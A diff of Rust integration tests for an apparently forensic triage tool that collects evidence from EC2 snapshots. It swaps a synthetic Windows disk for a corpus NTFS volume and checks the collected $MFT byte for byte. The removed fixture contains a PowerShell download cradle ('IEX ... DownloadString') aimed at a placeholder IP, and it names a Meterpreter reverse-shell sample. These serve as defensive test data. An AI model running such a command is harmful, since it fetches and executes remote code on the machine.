@@ -20,7 +20,7 @@ use riposte_aws::testing::ebs_snapshot::upload_image;
 use riposte_aws::testing::ec2_instance::{
     Disk, SeededInstance, instance_with_disks, riposte_snapshots, snapshot_exists,
 };
-use riposte_aws::testing::images::{Tree, ext4_image, ntfs_image, xfs_image};
+use riposte_aws::testing::images::{Tree, ext4_image, xfs_image};
 use riposte_aws::testing::{World, config};
 use riposte_fakes::moto::{ACCESS_KEY_ID, ACCOUNT_ID, EbsDirect, MotoServer, SECRET_ACCESS_KEY};
 use riposte_fakes::proxy::{FaultProxy, Faults};
@@ -486,27 +486,26 @@ async fn a_guardduty_alert_about_an_ec2_instance_is_triaged_from_its_own_snapsho
     }
 }
 
-/// A Windows instance: one NTFS volume holding a Sysmon log of a Meterpreter reverse shell
-/// (a real attack sample from the corpus) and a PowerShell history with a download cradle.
-fn windows_disk(dir: &Path) -> (Tree, std::path::PathBuf) {
-    let mut tree = Tree::new();
-    let sysmon =
-        common::corpus().join("evtx/Execution/Exec_sysmon_meterpreter_reversetcp_msipackage.evtx");
-    tree.insert(
-        "/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx".into(),
-        std::fs::read(sysmon).unwrap(),
+/// A Windows instance's NTFS volume: the dfVFS corpus volume (`windows_volume.qcow2`,
+/// an NTFS filesystem with a `Windows` folder), converted to raw with `qemu-img`; and its
+/// `$MFT` as ntfs-3g's `ntfscat` reads it, the oracle for the collected copy.
+fn windows_disk(dir: &Path) -> (std::path::PathBuf, Vec<u8>) {
+    let qcow2 = common::corpus().join("images/dfvfs/windows_volume.qcow2");
+    let raw = dir.join("windows.raw");
+    common::tool(
+        "qemu-img",
+        &[
+            "convert",
+            "-O",
+            "raw",
+            qcow2.to_str().unwrap(),
+            raw.to_str().unwrap(),
+        ],
+        "qemu-utils",
     );
-    tree.insert(
-        "/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
-            .into(),
-        b"whoami\r\nIEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\r\n"
-            .to_vec(),
-    );
-    tree.insert("/Program Files/App/app.exe".into(), b"MZ".to_vec());
-    let ntfs_dir = dir.join("ntfs");
-    std::fs::create_dir_all(&ntfs_dir).unwrap();
-    let image = ntfs_image(&tree, &ntfs_dir, 32);
-    (tree, image)
+    let mft = common::tool("ntfscat", &[raw.to_str().unwrap(), "$MFT"], "ntfs-3g");
+    assert!(mft.len() > 1024, "ntfscat gave {} bytes", mft.len());
+    (raw, mft)
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -514,7 +513,7 @@ async fn project_imports_read_a_windows_instance_keeping_its_snapshot_an_existin
  {
     let (moto, config) = emulator().await;
     let dir = tempfile::tempdir().unwrap();
-    let (windows_tree, ntfs) = windows_disk(dir.path());
+    let (ntfs, mft) = windows_disk(dir.path());
     let windows = instance_with_disks(
         &config,
         &[Disk {
@@ -560,42 +559,32 @@ async fn project_imports_read_a_windows_instance_keeping_its_snapshot_an_existin
         audit_entry(&d, "acquisition.snapshots_cleaned")["retained"],
         json!([windows_snapshot])
     );
+    // Its $MFT, read from the snapshot, is the one ntfs-3g reads from the volume byte for
+    // byte, except that ntfscat hands records out with their fixups undone (the last two
+    // bytes of each sector); and the MFT parser turned it into events.
     let items = evidence(&d);
-    let history = items
-        .iter()
-        .find(|(path, _)| path.ends_with("PSReadLine/ConsoleHost_history.txt"))
-        .unwrap_or_else(|| panic!("history not collected: {:#?}", items.keys()))
-        .1;
-    assert_eq!(
-        history["sha256"],
-        sha256(
-            &windows_tree["/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"]
-        )
-    );
-    assert_eq!(history["provenance"]["image"]["filesystem"], "ntfs");
-    let sysmon = items
-        .iter()
-        .find(|(path, _)| path.ends_with("Microsoft-Windows-Sysmon%4Operational.evtx"))
-        .unwrap_or_else(|| panic!("Sysmon log not collected: {:#?}", items.keys()))
-        .1;
-    assert_eq!(
-        sysmon["sha256"],
-        sha256(
-            &windows_tree["/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"]
-        )
-    );
+    let collected = items
+        .get("/$MFT")
+        .unwrap_or_else(|| panic!("$MFT not collected: {:#?}", items.keys()));
+    let stored = dir
+        .path()
+        .join("data/evidence")
+        .join(collected["storage_key"].as_str().unwrap());
+    let blob = std::fs::read(&stored).unwrap_or_else(|e| panic!("{}: {e}", stored.display()));
+    assert_eq!(collected["sha256"], sha256(&blob));
+    assert_eq!(blob.len(), mft.len());
+    let differing: Vec<usize> = (0..blob.len()).filter(|&i| blob[i] != mft[i]).collect();
     assert!(
-        !items.keys().any(|p| p.ends_with("app.exe")),
-        "triage took everything"
+        differing.iter().all(|i| i % 512 >= 510),
+        "bytes differ outside the fixups: {:?}",
+        &differing[..differing.len().min(10)]
     );
-    assert_ne!(
-        inv["verdict"]["verdict"], "No Evidence Found",
+    assert_eq!(collected["provenance"]["image"]["filesystem"], "ntfs");
+    assert_eq!(collected["provenance"]["cloud"]["device_name"], "/dev/sda1");
+    assert!(
+        d["events_count"].as_i64().is_some_and(|n| n > 0),
         "{:#}",
-        d["alarms"]
-    );
-    assert!(
-        d["alarms"].as_array().is_some_and(|a| !a.is_empty()),
-        "the attack sample raised nothing"
+        d["parse_reports"]
     );
 
     // The existing snapshot: read in place, a verdict, and never deleted.
